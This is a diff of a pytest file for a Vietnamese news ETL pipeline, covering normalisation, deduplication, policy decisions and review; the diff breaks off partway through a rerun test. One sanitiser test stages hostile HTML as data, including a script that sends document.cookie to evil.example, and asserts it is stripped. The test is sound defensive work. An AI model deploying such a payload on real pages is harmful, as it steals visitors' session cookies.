@@ -1,193 +1,49 @@
 """Processing stage on a real PostgreSQL: normalise → dedup → policy → load, review, quality.
 
-Staged rows are inserted directly into staging.item with Vietnamese text: the real Báo Đồng Nai
-seed article (shared/seed) for republications, and the replica's phrase-pool generator for
-distinct stories of the same register.
+Items are staged directly into staging.item with Vietnamese text (tests/process_helpers.py).
 """
 
 from __future__ import annotations
 
 import hashlib
-import html
-import json
 import random
 import time
 import unicodedata
 from datetime import UTC, datetime, timedelta
-from pathlib import Path
-from zoneinfo import ZoneInfo
 
-import psycopg2
 import pytest
 from pgutil import query as rows
-
-from portal_etl.db.staging import sync_sources
-from portal_etl.pipeline.process import (
-    STAGE_NAMES,
-    check_quality,
-    process_interval,
-    review,
-    run_stage,
+from process_helpers import (
+    BASES,
+    MAY,
+    PROCESS_TABLES,
+    REG,
+    SEED_PARAS,
+    SEED_SAPO,
+    SEED_TITLE,
+    TZ,
+    connect,
+    decision,
+    distinct_story,
+    edge,
+    grey_pair,
+    local,
+    republished_paragraphs,
+    run,
+    stage,
+    story_of,
 )
+
+from portal_etl.pipeline.process import STAGE_NAMES, check_quality, review, run_stage
 from portal_etl.pipeline.process.policy import decide
-from portal_etl.registry import load_registry
-from portal_replica.textgen import TextGen
-
-TZ = ZoneInfo("Asia/Ho_Chi_Minh")
-REG = load_registry()
-BASES = {
-    "dongnai_party": "https://tinhuydongnai.example.vn",
-    "dongnai_gov": "https://dongnai.gov.vn",
-    "baodongnai": "https://baodongnai.com.vn",
-}
-PROCESS_TABLES = (
-    "integration.article_history", "integration.article_source", "integration.article",
-    "integration.load_batch", "process.pending", "process.review_audit", "process.decision",
-    "process.item_story", "process.dup_edge", "process.lsh_band", "process.normalized_item",
-)  # fmt: skip
-
-_SEED_DIRS = [Path(__file__).resolve().parents[2] / "shared" / "seed", Path("/work/shared/seed")]
-
-
-def _seed() -> tuple[str, str, list[str]]:
-    for d in _SEED_DIRS:
-        path = d / "bao-dong-nai-2024-05-28.txt"
-        if path.exists():
-            lines = path.read_text(encoding="utf-8").split("\n")
-            return lines[3], lines[8], [lines[i - 1] for i in (14, 16, 18, 23, 25, 30, 32, 34)]
-    pytest.skip("seed article not found")
-
-
-SEED_TITLE, SEED_SAPO, SEED_PARAS = _seed()
-_GEN: list[TextGen] = []  # reset by the db fixture: each test draws the same texts whatever ran before
-
-
-def distinct_story(when: datetime, topic: str = "politics", lo: int = 150, hi: int = 260):
-    c = _GEN[0].content(topic, when, lo, hi)
-    return c.title, "(ĐN)- " + c.sapo_core, c.paragraphs
-
-
-def local(*args: int) -> datetime:
-    return datetime(*args, tzinfo=TZ)
-
-
-# --- staging helpers ------------------------------------------------------------------------------
-
-
-def connect(dsn: str):
-    return psycopg2.connect(dsn, options="-c timezone=UTC")
-
-
-@pytest.fixture
-def db(clean_db: str) -> str:
-    _GEN[:] = [TextGen(random.Random(20240528))]
-    conn = connect(clean_db)
-    with conn, conn.cursor() as cur:
-        cur.execute(f"TRUNCATE {', '.join(PROCESS_TABLES)} RESTART IDENTITY CASCADE")
-        sync_sources(cur, REG)
-    conn.close()
-    return clean_db
-
-
-def stage(
-    dsn: str,
-    source_id: str,
-    path: str,
-    *,
-    title: str,
-    body: list[str],
-    published: datetime,
-    section: str,
-    sapo: str = "",
-    native_id: str | None = None,
-    item_type: str | None = None,
-    video_url: str | None = None,
-    body_html: str | None = None,
-    canonical: str | None = None,
-    language: str = "vi",
-) -> int:
-    page_url = BASES[source_id] + path
-    body_text = "\n\n".join(body)
-    if body_html is None:
-        body_html = "".join(f"<p>{html.escape(p)}</p>" for p in body)
-    words = len(body_text.split())
-    fields = {
-        "canonical_url": canonical or page_url, "native_id": native_id, "title": title, "sapo": sapo,
-        "body_text": body_text, "body_html": body_html, "published_at": published.isoformat(),
-        "section": section, "item_type": item_type or ("bai" if words >= 500 else "tin"),
-        "language": language, "video_url": video_url,
-    }  # fmt: skip
-    content_hash = hashlib.sha256(json.dumps(fields, sort_keys=True).encode()).hexdigest()
-    conn = connect(dsn)
-    with conn, conn.cursor() as cur:
-        cur.execute(
-            """INSERT INTO staging.item (source_id, page_url, status, canonical_url, native_id, title, sapo,
-                   body_text, body_html, published_at, section, item_type, language, video_url, content_hash)
-               VALUES (%s, %s, 'staged', %s, %s, %s, %s, %s, %s, %s, %s, %s, %s, %s, %s)
-               ON CONFLICT (source_id, page_url) DO UPDATE SET canonical_url = EXCLUDED.canonical_url,
-                 native_id = EXCLUDED.native_id, title = EXCLUDED.title, sapo = EXCLUDED.sapo,
-                 body_text = EXCLUDED.body_text, body_html = EXCLUDED.body_html,
-                 published_at = EXCLUDED.published_at, section = EXCLUDED.section,
-                 item_type = EXCLUDED.item_type, content_hash = EXCLUDED.content_hash
-               RETURNING item_id""",
-            (
-                source_id,
-                page_url,
-                fields["canonical_url"],
-                native_id,
-                title,
-                sapo,
-                body_text,
-                body_html,
-                published,
-                section,
-                fields["item_type"],
-                language,
-                video_url,
-                content_hash,
-            ),
-        )
-        item_id = cur.fetchone()[0]
-    conn.close()
-    return item_id
-
-
-def run(dsn: str, start: datetime, end: datetime, run_id: str = "r1") -> dict:
-    return process_interval(start, end, dag_id="process_test", run_id=run_id, dsn=dsn, registry=REG)
-
-
-MAY = (local(2024, 5, 1), local(2024, 6, 1))
-
-
-def decision(dsn: str, item_id: int) -> tuple:
-    return rows(dsn, "SELECT outcome, reason, decided_by FROM process.decision WHERE item_id = %s", item_id)[0]
-
-
-def story_of(dsn: str, item_id: int) -> str:
-    return rows(dsn, "SELECT story_key FROM process.item_story WHERE item_id = %s", item_id)[0][0]
-
-
-def edge(dsn: str, a: int, b: int) -> tuple | None:
-    got = rows(
-        dsn, "SELECT reason, similarity FROM process.dup_edge WHERE item_a = %s AND item_b = %s", min(a, b), max(a, b)
-    )
-    return got[0] if got else None
-
-
-def republished_paragraphs() -> list[str]:
-    """The seed republished by another channel: one sentence dropped, old tone placement."""
-    paras = list(SEED_PARAS)
-    paras[6] = paras[6].split(". ")[0] + "."
-    return [p.replace("Thủy", "Thuỷ").replace("hòa", "hoà") for p in paras]
-
 
 # --- normalisation --------------------------------------------------------------------------------
 
 
-def test_normalisation_nfc_eth_dateline_and_tone_variants(db: str) -> None:
+def test_normalisation_nfc_eth_dateline_and_tone_variants(process_db: str) -> None:
     nfd_html = unicodedata.normalize("NFD", "<p>Đồng Nai hòa nhịp phát triển\u200b kinh tế.</p>")
     a = stage(
-        db,
+        process_db,
         "dongnai_gov",
         "/vi/news/kinh-te/hoa-nhip-101.html",
         title="\u00d0ồng Nai h\u00f2a nhịp \u2013 phát triển\u200b & hội nhập",
@@ -200,7 +56,7 @@ def test_normalisation_nfc_eth_dateline_and_tone_variants(db: str) -> None:
     )
     # same channel, same local day, the title in the new tone style and another dash: same story
     b = stage(
-        db,
+        process_db,
         "dongnai_gov",
         "/vi/news/kinh-te/hoa-nhip-102.html",
         title="Đồng Nai hoà nhịp - phát triển & hội nhập",
@@ -209,10 +65,10 @@ def test_normalisation_nfc_eth_dateline_and_tone_variants(db: str) -> None:
         section="kinh-te",
         native_id="102",
     )
-    counts = run(db, *MAY)
+    counts = run(process_db, *MAY)
     assert counts["normalized"] == 2 and counts["new"] == 1
     ((title, sapo, dateline, body_html, words),) = rows(
-        db,
+        process_db,
         "SELECT title_clean, sapo_clean, dateline, body_html_sanitized, word_count "
         "FROM process.normalized_item WHERE item_id = %s",
         a,
@@ -223,16 +79,16 @@ def test_normalisation_nfc_eth_dateline_and_tone_variants(db: str) -> None:
     assert unicodedata.is_normalized("NFC", body_html) and "\u200b" not in body_html
     # words hold a letter or digit (the contract's count): the seed's lone "-" is not one
     assert words == sum(len(p.split()) for p in SEED_PARAS) - 1
-    assert edge(db, a, b)[0] == "same_title_day"
-    assert story_of(db, a) == story_of(db, b)
+    assert edge(process_db, a, b)[0] == "same_title_day"
+    assert story_of(process_db, a) == story_of(process_db, b)
 
 
 # --- dedup layers ---------------------------------------------------------------------------------
 
 
-def test_republished_story_one_article_primary_earliest(db: str) -> None:
+def test_republished_story_one_article_primary_earliest(process_db: str) -> None:
     bdn = stage(
-        db,
+        process_db,
         "baodongnai",
         "/chinh-tri/202405/tang-cuong-lien-ket-3f1391d",
         title=SEED_TITLE,
@@ -243,7 +99,7 @@ def test_republished_story_one_article_primary_earliest(db: str) -> None:
         native_id="3f1391d",
     )
     gov = stage(
-        db,
+        process_db,
         "dongnai_gov",
         "/vi/news/thoi-su-chinh-tri/tang-cuong-lien-ket-5021.html",
         title=SEED_TITLE.replace("Tăng cường", "Tăng cường việc") + ".",
@@ -253,30 +109,32 @@ def test_republished_story_one_article_primary_earliest(db: str) -> None:
         section="thoi-su-chinh-tri",
         native_id="5021",
     )
-    run(db, *MAY)
-    reason, sim = edge(db, bdn, gov)
+    run(process_db, *MAY)
+    reason, sim = edge(process_db, bdn, gov)
     assert reason == "near_duplicate" and sim >= 0.7
-    arts = rows(db, "SELECT story_key, primary_source_id, primary_item_id, story_month, title FROM integration.article")
+    arts = rows(
+        process_db, "SELECT story_key, primary_source_id, primary_item_id, story_month, title FROM integration.article"
+    )
     assert len(arts) == 1
     key, src, primary, month, title = arts[0]
     assert (src, primary, month, title) == ("baodongnai", bdn, "2024-05", SEED_TITLE)
     srcs = rows(
-        db,
+        process_db,
         "SELECT item_id, is_primary, outcome FROM integration.article_source WHERE story_key = %s ORDER BY item_id",
         key,
     )
     assert srcs == sorted([(bdn, True, "approved"), (gov, False, "approved")])
     assert key == min(
         hashlib.sha1(f"{s}|{u}".encode()).hexdigest()[:16]
-        for s, u in rows(db, "SELECT source_id, canonical_url FROM staging.item")
+        for s, u in rows(process_db, "SELECT source_id, canonical_url FROM staging.item")
     )
 
 
-def test_primary_tie_goes_to_registry_channel_order(db: str) -> None:
+def test_primary_tie_goes_to_registry_channel_order(process_db: str) -> None:
     when = local(2024, 5, 10, 15, 30)
     title, sapo, body = distinct_story(when)
     bdn = stage(
-        db,
+        process_db,
         "baodongnai",
         "/chinh-tri/202405/story-a1b2c3d",
         title=title,
@@ -286,7 +144,7 @@ def test_primary_tie_goes_to_registry_channel_order(db: str) -> None:
         section="chinh-tri",
     )
     gov = stage(
-        db,
+        process_db,
         "dongnai_gov",
         "/vi/news/thoi-su-chinh-tri/story-7001.html",
         title=title,
@@ -296,7 +154,7 @@ def test_primary_tie_goes_to_registry_channel_order(db: str) -> None:
         section="thoi-su-chinh-tri",
     )
     party = stage(
-        db,
+        process_db,
         "dongnai_party",
         "/news/tin-hoat-dong/story-88.html",
         title=title,
@@ -305,16 +163,16 @@ def test_primary_tie_goes_to_registry_channel_order(db: str) -> None:
         published=when + timedelta(minutes=1),
         section="tin-hoat-dong",
     )
-    run(db, *MAY)
-    assert rows(db, "SELECT primary_item_id FROM integration.article") == [(gov,)]  # gov before baodongnai
-    assert {story_of(db, i) for i in (bdn, gov, party)} == {story_of(db, gov)}
+    run(process_db, *MAY)
+    assert rows(process_db, "SELECT primary_item_id FROM integration.article") == [(gov,)]  # gov before baodongnai
+    assert {story_of(process_db, i) for i in (bdn, gov, party)} == {story_of(process_db, gov)}
 
 
-def test_same_url_and_same_native_id_merge_with_reason(db: str) -> None:
+def test_same_url_and_same_native_id_merge_with_reason(process_db: str) -> None:
     title, sapo, body = distinct_story(local(2024, 5, 5))
     canonical = BASES["dongnai_gov"] + "/vi/news/kinh-te/khu-cong-nghiep-4411.html"
     a = stage(
-        db,
+        process_db,
         "dongnai_gov",
         "/vi/news/kinh-te/khu-cong-nghiep-4411.html",
         title=title,
@@ -325,7 +183,7 @@ def test_same_url_and_same_native_id_merge_with_reason(db: str) -> None:
         native_id="4411",
     )
     b = stage(
-        db,
+        process_db,
         "dongnai_gov",
         "/vi/news/kinh-te/khu-cong-nghiep-4411.html?utm_source=zalo&zarsrc=30",
         title=title + " (cập nhật)",
@@ -338,7 +196,7 @@ def test_same_url_and_same_native_id_merge_with_reason(db: str) -> None:
     )
     # legacy SharePoint URL of the same article: another URL, the same native id
     c = stage(
-        db,
+        process_db,
         "dongnai_gov",
         "/Pages/newsdetail.aspx?NewsId=4411&CatId=2",
         title="Bản cũ: " + title,
@@ -348,21 +206,21 @@ def test_same_url_and_same_native_id_merge_with_reason(db: str) -> None:
         section="kinh-te",
         native_id="4411",
     )
-    run(db, *MAY)
-    assert edge(db, a, b)[0] == "same_url"
-    assert edge(db, a, c)[0] == "same_native_id"
-    assert len({story_of(db, i) for i in (a, b, c)}) == 1
-    assert rows(db, "SELECT count(*) FROM integration.article") == [(1,)]
-    assert rows(db, "SELECT count(*) FROM integration.article_source") == [(3,)]
+    run(process_db, *MAY)
+    assert edge(process_db, a, b)[0] == "same_url"
+    assert edge(process_db, a, c)[0] == "same_native_id"
+    assert len({story_of(process_db, i) for i in (a, b, c)}) == 1
+    assert rows(process_db, "SELECT count(*) FROM integration.article") == [(1,)]
+    assert rows(process_db, "SELECT count(*) FROM integration.article_source") == [(3,)]
 
 
-def test_same_title_only_merges_on_the_same_local_day(db: str) -> None:
+def test_same_title_only_merges_on_the_same_local_day(process_db: str) -> None:
     title = "Hội nghị sơ kết công tác xây dựng Đảng 6 tháng đầu năm"
     _, _, body1 = distinct_story(local(2024, 5, 14))
     _, _, body2 = distinct_story(local(2024, 5, 14))
     _, _, body3 = distinct_story(local(2024, 5, 15))
     a = stage(
-        db,
+        process_db,
         "baodongnai",
         "/chinh-tri/202405/hoi-nghi-1a2b3c4",
         title=title,
@@ -371,7 +229,7 @@ def test_same_title_only_merges_on_the_same_local_day(db: str) -> None:
         section="chinh-tri",
     )
     b = stage(
-        db,
+        process_db,
         "baodongnai",
         "/chinh-tri/202405/hoi-nghi-so-ket-1a2b3c5",
         title=title.upper() + "!",
@@ -380,7 +238,7 @@ def test_same_title_only_merges_on_the_same_local_day(db: str) -> None:
         section="chinh-tri",
     )
     c = stage(
-        db,
+        process_db,
         "baodongnai",
         "/chinh-tri/202405/hoi-nghi-1a2b3c6",
         title=title,
@@ -388,46 +246,20 @@ def test_same_title_only_merges_on_the_same_local_day(db: str) -> None:
         published=local(2024, 5, 15, 0, 1),
         section="chinh-tri",
     )
-    run(db, *MAY)
-    assert edge(db, a, b)[0] == "same_title_day"
-    assert edge(db, a, c) is None and edge(db, b, c) is None
-    assert story_of(db, a) == story_of(db, b) != story_of(db, c)
+    run(process_db, *MAY)
+    assert edge(process_db, a, b)[0] == "same_title_day"
+    assert edge(process_db, a, c) is None and edge(process_db, b, c) is None
+    assert story_of(process_db, a) == story_of(process_db, b) != story_of(process_db, c)
 
 
-def grey_pair(dsn: str) -> tuple[int, int]:
-    extra = distinct_story(local(2024, 5, 20), lo=300, hi=400)[2]
-    early = stage(
-        dsn,
-        "baodongnai",
-        "/chinh-tri/202405/tang-cuong-lien-ket-3f1391d",
-        title=SEED_TITLE,
-        sapo=SEED_SAPO,
-        body=SEED_PARAS,
-        published=local(2024, 5, 28, 20, 13),
-        section="chinh-tri",
-    )
-    # a reworded headline: with the same long headline the title layer would merge them outright
-    late = stage(
-        dsn,
-        "dongnai_gov",
-        "/vi/news/thoi-su-chinh-tri/lien-ket-thong-tin-6001.html",
-        title="Đồng Nai và Báo điện tử Đảng Cộng sản Việt Nam bàn cách tích hợp thông tin",
-        sapo=SEED_SAPO,
-        body=SEED_PARAS[:6] + extra[:2],
-        published=local(2024, 5, 30, 10),
-        section="thoi-su-chinh-tri",
-    )
-    return early, late
-
-
-def test_near_duplicates_across_a_band_week_boundary_within_the_window(db: str) -> None:
+def test_near_duplicates_across_a_band_week_boundary_within_the_window(process_db: str) -> None:
     """The band look-up reads the item's publish week and the weeks either side (sql/017): a
     republication 6 days 22 hours later, in the next week, is still a candidate; 8 days is not."""
     week = timedelta(days=7).total_seconds()
     boundary = datetime.fromtimestamp((local(2024, 5, 15).timestamp() // week + 1) * week, UTC)
     first = boundary - timedelta(hours=1)
     bdn = stage(
-        db,
+        process_db,
         "baodongnai",
         "/chinh-tri/202405/tang-cuong-lien-ket-3f1391d",
         title=SEED_TITLE,
@@ -438,7 +270,7 @@ def test_near_duplicates_across_a_band_week_boundary_within_the_window(db: str) 
         native_id="3f1391d",
     )
     gov = stage(
-        db,
+        process_db,
         "dongnai_gov",
         "/vi/news/thoi-su-chinh-tri/lien-ket-vung-5021.html",
         title="Liên kết vùng",
@@ -448,7 +280,7 @@ def test_near_duplicates_across_a_band_week_boundary_within_the_window(db: str) 
         native_id="5021",
     )
     late = stage(
-        db,
+        process_db,
         "dongnai_party",
         "/tin-tuc/lien-ket-vung-88.html",
         title="Liên kết vùng Đông Nam Bộ",
@@ -457,17 +289,17 @@ def test_near_duplicates_across_a_band_week_boundary_within_the_window(db: str) 
         section="tin-tuc",
         native_id="88",
     )
-    run(db, local(2024, 5, 1), local(2024, 7, 1))
-    weeks = dict(rows(db, "SELECT DISTINCT item_id, band_week FROM process.lsh_band"))
+    run(process_db, local(2024, 5, 1), local(2024, 7, 1))
+    weeks = dict(rows(process_db, "SELECT DISTINCT item_id, band_week FROM process.lsh_band"))
     assert weeks[gov] == weeks[bdn] + 1
-    assert edge(db, bdn, gov)[0] == "near_duplicate"
-    assert edge(db, bdn, late) is None  # outside the ±7-day window
-    assert edge(db, gov, late)[0] == "near_duplicate"  # 1 day 2 hours apart
+    assert edge(process_db, bdn, gov)[0] == "near_duplicate"
+    assert edge(process_db, bdn, late) is None  # outside the ±7-day window
+    assert edge(process_db, gov, late)[0] == "near_duplicate"  # 1 day 2 hours apart
 
 
-def test_same_long_title_on_another_channel_merges_a_stub_with_its_article(db: str) -> None:
+def test_same_long_title_on_another_channel_merges_a_stub_with_its_article(process_db: str) -> None:
     stub = stage(
-        db,
+        process_db,
         "dongnai_gov",
         "/vi/news/thoi-su-chinh-tri/lien-ket-6002.html",
         title=SEED_TITLE,
@@ -477,7 +309,7 @@ def test_same_long_title_on_another_channel_merges_a_stub_with_its_article(db: s
         section="thoi-su-chinh-tri",
     )
     full = stage(
-        db,
+        process_db,
         "baodongnai",
         "/chinh-tri/202405/tang-cuong-lien-ket-3f1391e",
         title=SEED_TITLE,
@@ -487,7 +319,7 @@ def test_same_long_title_on_another_channel_merges_a_stub_with_its_article(db: s
         section="chinh-tri",
     )
     far = stage(
-        db,
+        process_db,
         "dongnai_party",
         "/news/xay-dung-dang/lien-ket-77.html",
         title=SEED_TITLE,
@@ -496,9 +328,10 @@ def test_same_long_title_on_another_channel_merges_a_stub_with_its_article(db: s
         published=local(2024, 6, 10, 8),
         section="xay-dung-dang",
     )
-    run(db, datetime(2024, 5, 1, tzinfo=TZ), datetime(2024, 7, 1, tzinfo=TZ))
-    assert edge(db, stub, full)[0] == "same_title_cross_channel"
-    assert story_of(db, stub) == story_of(db, full) != story_of(db, far)  # 12 days later: not the same
+    run(process_db, datetime(2024, 5, 1, tzinfo=TZ), datetime(2024, 7, 1, tzinfo=TZ))
+    assert edge(process_db, stub, full)[0] == "same_title_cross_channel"
+    # 12 days later: not the same
+    assert story_of(process_db, stub) == story_of(process_db, full) != story_of(process_db, far)
 
 
 PROVINCE_TITLE = SEED_TITLE.replace("về Đồng Nai", "về tỉnh Đồng Nai")
@@ -509,9 +342,9 @@ def short_body(when: datetime, words: int = 45) -> list[str]:
     return [" ".join(" ".join(distinct_story(when)[2]).split()[:words])]
 
 
-def test_same_lead_on_another_channel_merges_a_stub_whose_headline_was_reworded(db: str) -> None:
+def test_same_lead_on_another_channel_merges_a_stub_whose_headline_was_reworded(process_db: str) -> None:
     full = stage(
-        db,
+        process_db,
         "baodongnai",
         "/chinh-tri/202405/tang-cuong-lien-ket-3f1391d",
         title=SEED_TITLE,
@@ -524,7 +357,7 @@ def test_same_lead_on_another_channel_merges_a_stub_whose_headline_was_reworded(
     # placement, a few sentences of its own
     lead = SEED_SAPO.replace("(ĐN)-", "(ĐCSVN) -").replace("Tỉnh ủy", "Tỉnh uỷ")
     stub = stage(
-        db,
+        process_db,
         "dongnai_gov",
         "/vi/news/thoi-su-chinh-tri/lien-ket-6003.html",
         title=PROVINCE_TITLE,
@@ -535,7 +368,7 @@ def test_same_lead_on_another_channel_merges_a_stub_whose_headline_was_reworded(
     )
     # each lacks one condition: a headline word changed; three days later
     reworded = stage(
-        db,
+        process_db,
         "dongnai_party",
         "/news/xay-dung-dang/lien-ket-78.html",
         title=SEED_TITLE.replace("Tăng cường", "Đẩy mạnh"),
@@ -545,7 +378,7 @@ def test_same_lead_on_another_channel_merges_a_stub_whose_headline_was_reworded(
         section="xay-dung-dang",
     )
     late = stage(
-        db,
+        process_db,
         "dongnai_party",
         "/news/xay-dung-dang/lien-ket-79.html",
         title=PROVINCE_TITLE,
@@ -554,18 +387,18 @@ def test_same_lead_on_another_channel_merges_a_stub_whose_headline_was_reworded(
         published=local(2024, 5, 31, 21),
         section="xay-dung-dang",
     )
-    run(db, *MAY)
-    reason, sim = edge(db, stub, full)
+    run(process_db, *MAY)
+    reason, sim = edge(process_db, stub, full)
     assert reason == "same_lead_cross_channel" and sim < 0.5  # bodies alone would never join them
-    assert story_of(db, stub) == story_of(db, full)
+    assert story_of(process_db, stub) == story_of(process_db, full)
     for other in (reworded, late):
-        assert edge(db, other, full) is None and story_of(db, other) != story_of(db, full)
-        assert (edge(db, other, stub) or ("",))[0] != "same_lead_cross_channel"
+        assert edge(process_db, other, full) is None and story_of(process_db, other) != story_of(process_db, full)
+        assert (edge(process_db, other, stub) or ("",))[0] != "same_lead_cross_channel"
 
 
-def test_same_lead_leaves_two_full_articles_and_one_channel_to_other_layers(db: str) -> None:
+def test_same_lead_leaves_two_full_articles_and_one_channel_to_other_layers(process_db: str) -> None:
     full = stage(
-        db,
+        process_db,
         "baodongnai",
         "/chinh-tri/202405/tang-cuong-lien-ket-3f1391d",
         title=SEED_TITLE,
@@ -577,7 +410,7 @@ def test_same_lead_leaves_two_full_articles_and_one_channel_to_other_layers(db: 
     # another article about the same meeting opening with the press release's lead: long, so the
     # bodies decide (and they differ)
     other_article = stage(
-        db,
+        process_db,
         "dongnai_party",
         "/news/xay-dung-dang/lien-ket-80.html",
         title=PROVINCE_TITLE,
@@ -588,7 +421,7 @@ def test_same_lead_leaves_two_full_articles_and_one_channel_to_other_layers(db: 
     )
     # a stub of the same lead on the full article's own channel
     own_stub = stage(
-        db,
+        process_db,
         "baodongnai",
         "/chinh-tri/202405/lien-ket-3f1391f",
         title="Đồng Nai: " + SEED_TITLE,
@@ -597,34 +430,34 @@ def test_same_lead_leaves_two_full_articles_and_one_channel_to_other_layers(db: 
         published=local(2024, 5, 28, 18),
         section="chinh-tri",
     )
-    run(db, *MAY)
-    assert edge(db, full, other_article) is None
-    assert edge(db, full, own_stub) is None
+    run(process_db, *MAY)
+    assert edge(process_db, full, other_article) is None
+    assert edge(process_db, full, own_stub) is None
     # the stub and the other article are on two channels: the lead joins them, not the full article
-    assert edge(db, own_stub, other_article)[0] == "same_lead_cross_channel"
-    assert story_of(db, own_stub) == story_of(db, other_article) != story_of(db, full)
+    assert edge(process_db, own_stub, other_article)[0] == "same_lead_cross_channel"
+    assert story_of(process_db, own_stub) == story_of(process_db, other_article) != story_of(process_db, full)
 
 
-def test_grey_zone_pair_needs_review_and_does_not_merge(db: str) -> None:
-    early, late = grey_pair(db)
-    run(db, *MAY)
-    reason, sim = edge(db, early, late)
+def test_grey_zone_pair_needs_review_and_does_not_merge(process_db: str) -> None:
+    early, late = grey_pair(process_db)
+    run(process_db, *MAY)
+    reason, sim = edge(process_db, early, late)
     assert reason == "review_grey_zone" and 0.5 <= sim < 0.7
-    assert story_of(db, early) != story_of(db, late)
-    assert decision(db, early) == ("approved", None, "policy")
-    assert decision(db, late) == ("needs_review", "possible_duplicate", "policy")
-    queue = review.list_queue(dsn=db)
+    assert story_of(process_db, early) != story_of(process_db, late)
+    assert decision(process_db, early) == ("approved", None, "policy")
+    assert decision(process_db, late) == ("needs_review", "possible_duplicate", "policy")
+    queue = review.list_queue(dsn=process_db)
     assert [(q["item_id"], q["reason"]) for q in queue] == [(late, "possible_duplicate")]
-    shown = review.show(late, dsn=db)
+    shown = review.show(late, dsn=process_db)
     assert [(c["item_id"], c["reason"]) for c in shown["candidates"]] == [(early, "review_grey_zone")]
     assert shown["candidates"][0]["similarity"] == pytest.approx(sim, abs=1e-4)
-    assert rows(db, "SELECT primary_item_id FROM integration.article") == [(early,)]
+    assert rows(process_db, "SELECT primary_item_id FROM integration.article") == [(early,)]
 
 
 # --- policy ---------------------------------------------------------------------------------------
 
 
-def test_policy_reasons(db: str) -> None:
+def test_policy_reasons(process_db: str) -> None:
     long_body = distinct_story(local(2023, 3, 28))[2]
     short = [
         "Sáng 5-5, UBND tỉnh tổ chức hội nghị triển khai nhiệm vụ quý II năm 2024 với sự tham dự của "
@@ -633,7 +466,7 @@ def test_policy_reasons(db: str) -> None:
     video_html = '<p>Clip.</p><iframe src="https://www.youtube.com/embed/abc123"></iframe>'
     cases = {
         "not_integrated": stage(
-            db,
+            process_db,
             "dongnai_gov",
             "/vi/news/thong-bao/tb-1.html",
             title="Thông báo lịch tiếp dân",
@@ -642,7 +475,7 @@ def test_policy_reasons(db: str) -> None:
             section="thong-bao",
         ),
         "before_window": stage(
-            db,
+            process_db,
             "dongnai_gov",
             "/vi/news/kinh-te/truoc-2.html",
             title="Tin trước ngày tích hợp",
@@ -651,7 +484,7 @@ def test_policy_reasons(db: str) -> None:
             section="kinh-te",
         ),
         "window_start": stage(
-            db,
+            process_db,
             "dongnai_gov",
             "/vi/news/kinh-te/dung-ngay-3.html",
             title="Tin đúng ngày tích hợp",
@@ -660,7 +493,7 @@ def test_policy_reasons(db: str) -> None:
             section="kinh-te",
         ),
         "too_short": stage(
-            db,
+            process_db,
             "baodongnai",
             "/xa-hoi/202303/tin-ngan-1111111",
             title="Tin ngắn về hội nghị",
@@ -669,7 +502,7 @@ def test_policy_reasons(db: str) -> None:
             section="xa-hoi",
         ),
         "video": stage(
-            db,
+            process_db,
             "dongnai_gov",
             "/vi/news/video-clip/clip-4.html",
             title="Video: Đồng Nai hôm nay",
@@ -680,7 +513,7 @@ def test_policy_reasons(db: str) -> None:
             item_type="video",
         ),
         "unknown_section": stage(
-            db,
+            process_db,
             "baodongnai",
             "/tin-moi/202303/tin-moi-2222222",
             title="Chuyên mục lạ",
@@ -689,7 +522,7 @@ def test_policy_reasons(db: str) -> None:
             section="tin-moi",
         ),
         "unknown_short": stage(
-            db,
+            process_db,
             "baodongnai",
             "/tin-moi/202303/tin-moi-3333333",
             title="Chuyên mục lạ, ngắn",
@@ -698,7 +531,7 @@ def test_policy_reasons(db: str) -> None:
             section="tin-moi",
         ),
         "language": stage(
-            db,
+            process_db,
             "baodongnai",
             "/chinh-tri/202303/english-4444444",
             title="Dong Nai news in English",
@@ -708,8 +541,8 @@ def test_policy_reasons(db: str) -> None:
             language="en",
         ),
     }
-    run(db, local(2023, 3, 1), local(2023, 4, 1))
-    got = {name: decision(db, item)[:2] for name, item in cases.items()}
+    run(process_db, local(2023, 3, 1), local(2023, 4, 1))
+    got = {name: decision(process_db, item)[:2] for name, item in cases.items()}
     assert got == {
         "not_integrated": ("rejected", "section_not_integrated"),
         "before_window": ("rejected", "before_window"),
@@ -720,7 +553,7 @@ def test_policy_reasons(db: str) -> None:
         "unknown_short": ("rejected", "too_short"),
         "language": ("needs_review", "language"),
     }
-    integrated = {r[0] for r in rows(db, "SELECT primary_item_id FROM integration.article")}
+    integrated = {r[0] for r in rows(process_db, "SELECT primary_item_id FROM integration.article")}
     assert integrated == {cases["window_start"], cases["video"]}
     # a staged item always has a date (001 CHECK); the rule itself:
     item = {
@@ -737,7 +570,7 @@ def test_policy_reasons(db: str) -> None:
     assert (verdict.outcome, verdict.reason) == ("needs_review", "unknown_section")
 
 
-def test_hostile_html_never_reaches_the_store(db: str) -> None:
+def test_hostile_html_never_reaches_the_store(process_db: str) -> None:
     hostile = (
         '<p onclick="steal()">Bài viết <a href="javascript:alert(1)">xem thêm</a></p>'
         '<script>document.location="https://evil.example/?c="+document.cookie</script>'
@@ -746,7 +579,7 @@ def test_hostile_html_never_reaches_the_store(db: str) -> None:
         '<p style="x" data-x="1">&lt;script&gt;alert(3)&lt;/script&gt;</p>'
     )
     item = stage(
-        db,
+        process_db,
         "dongnai_gov",
         "/vi/news/kinh-te/bai-doc-hai-9.html",
         title="Bài có mã độc",
@@ -755,14 +588,14 @@ def test_hostile_html_never_reaches_the_store(db: str) -> None:
         published=local(2024, 5, 2, 10),
         section="kinh-te",
     )
-    run(db, *MAY)
-    ((body_html,),) = rows(db, "SELECT body_html FROM integration.article WHERE primary_item_id = %s", item)
+    run(process_db, *MAY)
+    ((body_html,),) = rows(process_db, "SELECT body_html FROM integration.article WHERE primary_item_id = %s", item)
     lowered = body_html.lower()
     for bad in ("<script", "onerror", "onclick", "onload", "javascript:", "evil.example", "<svg", "style="):
         assert bad not in lowered, bad
     assert 'href="https://dongnai.gov.vn/vi/news/kinh-te/bai-khac-1.html"' in body_html
     assert "&lt;script&gt;alert(3)&lt;/script&gt;" in body_html
-    assert check_quality(db) == []
+    assert check_quality(process_db) == []
 
 
 # --- idempotence and order independence -----------------------------------------------------------
@@ -887,17 +720,17 @@ MARCH = (local(2024, 3, 1), local(2024, 4, 1))
 APRIL = (local(2024, 4, 1), local(2024, 5, 1))
 
 
-def test_rerun_leaves_the_store_byte_identical(db: str) -> None:
-    two_month_dataset(db)
-    run(db, *MARCH, run_id="m1")
-    first = run(db, *APRIL, run_id="a1")
-    before = integration_dump(db)
-    again = run(db, *APRIL, run_id="a2")
-    run(db, *MARCH, run_id="m2")
-    assert integration_dump(db) == before
+def test_rerun_leaves_the_store_byte_identical(process_db: str) -> None:
+    two_month_dataset(process_db)
